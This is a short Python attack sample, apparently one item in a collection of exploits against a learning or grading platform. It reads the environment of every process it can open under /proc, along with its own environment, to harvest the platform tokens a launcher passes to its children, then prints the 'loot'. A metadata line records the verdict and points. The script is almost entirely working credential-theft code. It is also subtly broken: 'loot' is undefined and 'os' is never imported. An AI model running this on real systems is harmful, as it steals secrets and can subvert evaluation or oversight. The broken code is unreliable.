"""Reads every process's environment, looking for the launcher's tokens.

A launcher often holds tokens of a learning platform in its environment, and its children inherit them. An attacker
prints all of /proc/*/environ that it may open.
"""

# zoo: {"verdict": ["ok"], "points": {"q1": 0, "q2": 0, "q3": 0}, "loots": ["environment"]}
# %% q1
total = None
import glob

for path in ["/proc/self/environ", *glob.glob("/proc/[0-9]*/environ")]:
    try:
        text = open(path, "rb").read().replace(b"\0", b"\n").decode("utf-8", "replace")
    except OSError as error:
        text = error.strerror
    loot.append(f"{path}: {text[:4000]}")
loot.append(repr(dict(os.environ))[:4000])
print("\n".join(loot)[-20000:])
